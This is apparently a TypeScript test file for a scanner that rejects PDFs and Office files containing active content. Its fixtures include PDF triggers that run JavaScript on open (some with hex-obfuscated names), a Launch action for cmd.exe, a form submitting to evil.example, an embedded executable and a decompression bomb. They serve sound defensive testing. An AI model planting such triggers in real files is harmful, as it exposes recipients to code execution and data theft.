import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import Drawing from 'pdfkit'
import { afterAll, describe, expect, it } from 'vitest'
import { sampleDocx, samplePdf, sampleXlsx } from '#testing/sample-files.ts'
import { isActivePdf } from './find-active.ts'
import { findOfficeType } from './find-type.ts'

/** What a member sends and staff open (ASVS 5.4.3): nothing in it runs. */
const dir = mkdtempSync(join(tmpdir(), 'fieldhouse-active-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))
const write = (bytes: Buffer) => {
  writeFileSync(join(dir, 'file'), bytes)
  return join(dir, 'file')
}
const isActive = (bytes: Buffer | string) => isActivePdf(write(Buffer.from(bytes as string, 'latin1')))

const page = (more: string) => `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${more}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
const inStream = (objects: string, { filter = '/Filter/FlateDecode', type = '/Type/ObjStm', packed = deflateSync(objects) } = {}) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n5 0 obj\n<<${type}/N 1/First 4${filter}/Length ${packed.length}>>\nstream\r\n`),
    packed,
    Buffer.from('\nendstream endobj\n%%EOF\n'),
  ])

describe('an active PDF', () => {
  it.each([
    ['a script when it is opened', page('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')],
    ['a script with its name in numbers', page('/OpenAction<</S/J#61vaScript/JS(1)>>')],
    ['a program that is started', page('/OpenAction<</S/Launch/F(cmd.exe)>>')],
    ['a form that is sent away', page('/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>')],
    ['another file in it', page('/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>')],
    ['a film', page('/Annots[<</Subtype/RichMedia>>]')],
    ['a form of XFA', page('/AcroForm<</XFA 9 0 R>>')],
    ['an encrypted one', page('>>endobj trailer<</Encrypt 9 0 R')],
    ['a script in a stream of objects', inStream('7 0 <</S/JavaScript/JS(1)>>')],
    ['one whose name is in numbers there, too', inStream('7 0 <</S/#4aavaScript/JS(1)>>')],
    ['a stream of objects that does not say it is one', inStream('7 0 <</S/JavaScript>>', { type: '' })],
    ['a stream that is packed in another way', inStream('7 0 <<>>', { filter: '/Filter[/ASCIIHexDecode/FlateDecode]' })],
    ['a stream that cannot be unpacked', inStream('', { packed: Buffer.from('no such thing') })],
    ['a stream that fills the memory', inStream('', { packed: deflateSync(Buffer.alloc(40 * 1024 * 1024)) })],
  ])('is one with %s', async (_, bytes) => {
    expect(await isActive(bytes as Buffer)).toBe(true)
  })

  it.each([
    ['an empty one', samplePdf('')],
    ['one that opens at a page', page('/OpenAction[3 0 R/Fit]')],
    ['one with links', page('/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.org)>>>>]')],
    ['a form without scripts', page('/AcroForm<</Fields[]>>')],
    ['harmless objects in a stream', inStream('7 0 <</Type/Page/Parent 2 0 R>>')],
  ])('is not %s', async (_, bytes) => {
    expect(await isActive(bytes as Buffer)).toBe(false)
  })

  it('is none that a program has written', async () => {
    const drawn = new Drawing({ compress: true })
    const parts: Buffer[] = []
    drawn.on('data', (part: Buffer) => parts.push(part))
    const ended = new Promise((resolve) => drawn.on('end', resolve))
    drawn.text('JavaScript, Launch and EmbeddedFile are words here').end()
    await ended
    expect(await isActive(Buffer.concat(parts))).toBe(false)
  })

  it('is found in time that grows with the file, whatever it says', async () => {
    const begun = process.cpuUsage()
    await isActive(Buffer.alloc(10_000_000, 'stream\n'))
    await isActive(Buffer.alloc(10_000_000, 'obj obj stream\n'))
    await isActive(Buffer.alloc(10_000_000, '#4a'))
    expect(process.cpuUsage(begun).user).toBeLessThan(12_000_000)
  })
})

it.each(['word/embeddings/oleObject1.bin', 'word/activeX/activeX1.xml', 'word/vbaProject.bin'])(
  'refuses an Office file with %s',
  async (name) => {
    expect(await findOfficeType(write(sampleDocx([{ name, content: 'x' }])))).toBeUndefined()
  },
)

it('takes an Office file with a table in it', async () => {
  expect(await findOfficeType(write(sampleDocx([{ name: 'word/embeddings/table.xlsx', content: sampleXlsx() }])))).toBeDefined()
})
